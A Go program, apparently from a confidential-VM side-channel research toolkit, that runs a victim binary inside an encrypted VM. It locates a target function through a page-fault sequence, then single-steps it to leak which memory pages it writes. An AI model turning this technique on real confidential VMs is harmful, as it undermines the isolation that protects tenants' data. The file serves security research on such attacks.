//Spawns an external victim binary inside the VM and leaks which memory pages
//one of its functions writes to, without any knowledge about the binary beyond
//the addresses it announces during its setup phase. The victim is expected to
//announce marker_fn1, marker_fn2, victim_fn and mem_buffer. We wait for the
//fault sequence of the two marker functions followed by the victim function,
//then single step the latter under full write tracking.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"os/signal"

	"sevStepLib"
	"sevStepLib/engine"
	"sevStepLib/victim"
	"sevStepLib/vmserver"
)

type application struct {
	config     *sevStepLib.Config
	folderPath string
	executeCmd string
	args       []string
	maxSteps   int
	debugLog   *log.Logger
}

func setupAndParseCLI() (*application, error) {
	configPath := flag.String("config", "vm-config.toml", "Path to vm config file")
	folderPath := flag.String("folderPath", "", "Folder inside the VM containing the victim binary")
	executeCmd := flag.String("executeCmd", "", "Victim binary to execute, relative to folderPath")
	maxSteps := flag.Int("maxSteps", 50, "Number of instructions to single step inside the victim function")
	debugLog := flag.Bool("debugLog", false, "Verbose logging for debug purposes")

	flag.Parse()

	app := &application{
		folderPath: *folderPath,
		executeCmd: *executeCmd,
		args:       flag.Args(),
		maxSteps:   *maxSteps,
	}

	if app.folderPath == "" || app.executeCmd == "" {
		return nil, errors.New("folderPath and executeCmd are required")
	}

	cfg, err := sevStepLib.ParseConfig(*configPath)
	if err != nil {
		return nil, fmt.Errorf("failed to parse vm config : %v", err)
	}
	app.config = cfg

	if *debugLog {
		app.debugLog = log.Default()
	} else {
		app.debugLog = log.New(io.Discard, "", 0)
	}

	return app, nil
}

func run(app *application) error {
	client := vmserver.NewClient(app.config.VMServerAddress)

	if err := client.NewCustomTarget(&vmserver.InitCustomTargetReq{
		FolderPath: app.folderPath,
		ExecuteCmd: app.executeCmd,
		Args:       app.args,
	}); err != nil {
		return fmt.Errorf("failed to spawn victim : %v", err)
	}

	proc := victim.NewProcess(client)
	proc.SetDebugLog(app.debugLog)
	defer func() {
		if err := proc.Stop(); err != nil {
			log.Printf("Failed to stop victim : %v", err)
		}
	}()

	if err := proc.RunSetup(app.config.SetupTimeout()); err != nil {
		return fmt.Errorf("victim setup failed : %v", err)
	}
	log.Printf("Victim setup done, announced vars: %v", proc.Vars())

	markerFn1, err := proc.GPA("marker_fn1")
	if err != nil {
		return err
	}
	markerFn2, err := proc.GPA("marker_fn2")
	if err != nil {
		return err
	}
	victimFn, err := proc.GPA("victim_fn")
	if err != nil {
		return err
	}
	memBuffer, err := proc.GPA("mem_buffer")
	if err != nil {
		return err
	}

	driver, err := sevStepLib.NewKernelDriver(app.config.KVMDevicePath, app.config.TryGetRIP, app.config.FlushCPU)
	if err != nil {
		return fmt.Errorf("failed to init kernel driver : %v", err)
	}
	defer func() {
		if err := driver.Close(); err != nil {
			log.Printf("Failed to close kernel driver : %v", err)
		}
	}()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	//the marker functions give us a robust anchor in the victim's fault stream.
	//victimFn stays armed from the initial tracking, so once both markers have
	//faulted the next event is the entry into the function under observation;
	//that event must reach the second chain un-acked so the detect handler can
	//arm stepping and write tracking while the victim is still halted
	locate := engine.NewSkipUntilPageFaultSequence(
		[]uint64{markerFn1, markerFn2},
		engine.MatchScattered,
		app.config.EventTimeout(),
		app.debugLog,
	)
	detect := NewDetectMemArgHandler(app.config.APICTimerValue, []uint64{victimFn}, app.maxSteps, app.config.EventTimeout(), app.debugLog)

	stepper := engine.NewStepper(driver,
		engine.NewChain("locateVictimFn", locate),
		engine.NewChain("leakMemArg", detect),
	)
	stepper.SetDebugLog(app.debugLog)

	err = stepper.Run(ctx, engine.RunConfig{
		InitialTracking: &engine.InitialTracking{Mode: engine.TrackExec, GPAs: []uint64{markerFn1, markerFn2, victimFn}},
		Trigger:         proc.Release,
		EventTimeout:    app.config.EventTimeout(),
	})
	if err != nil {
		return fmt.Errorf("attack run failed : %v", err)
	}

	memBufferPage := memBuffer &^ 0xfff
	log.Printf("Write faults while stepping the victim function:")
	foundBuffer := false
	for page, count := range detect.WriteFaults() {
		log.Printf("\tpage 0x%x: %v faults", page, count)
		if page == memBufferPage {
			foundBuffer = true
		}
	}
	if foundBuffer {
		log.Printf("Victim function writes to the announced buffer at gpa 0x%x", memBuffer)
		//for encrypted VMs this is ciphertext, but it still shows whether the
		//buffer content changed
		mem, err := driver.ReadGuestMemory(memBuffer, 16)
		if err != nil {
			log.Printf("Failed to read buffer content : %v", err)
		} else {
			log.Printf("First buffer bytes after the run: %x", mem)
		}
	} else {
		log.Printf("No write faults on the announced buffer page 0x%x", memBufferPage)
	}

	return nil
}

func main() {
	app, err := setupAndParseCLI()
	if err != nil {
		log.Fatalf("Failed to parse CLI args : %v", err)
	}
	if err := run(app); err != nil {
		log.Fatalf("%v", err)
	}
}
